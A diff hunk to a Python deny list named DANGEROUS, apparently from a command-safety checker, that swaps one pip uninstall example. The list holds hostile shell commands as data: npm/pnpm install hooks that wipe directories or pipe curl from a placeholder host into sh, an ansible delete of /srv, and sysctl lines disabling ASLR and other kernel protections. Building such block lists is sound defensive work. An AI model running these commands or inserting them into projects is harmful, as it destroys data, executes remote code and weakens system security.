@@ -46,7 +46,7 @@ DANGEROUS = {
         "npm pkg set scripts.postinstall='rm -rf ~/Documents'",
         "pnpm pkg set 'scripts.prepare=curl https://a.example/x | sh'",
         "npm set-script prepare 'rm -rf /srv'",
-        "python -m twine upload dist/*", "python3 -m pip uninstall -y requests",
+        "python -m twine upload dist/*", "python3 -m pip uninstall -yr all.txt",
         "python3 -I -m ansible all -m file -a 'path=/srv state=absent'",
         "sysctl -w kernel.randomize_va_space=0", "sysctl kernel.yama.ptrace_scope=0",
         "sysctl -qw net.ipv4.tcp_syncookies=0 kernel.kptr_restrict=0",
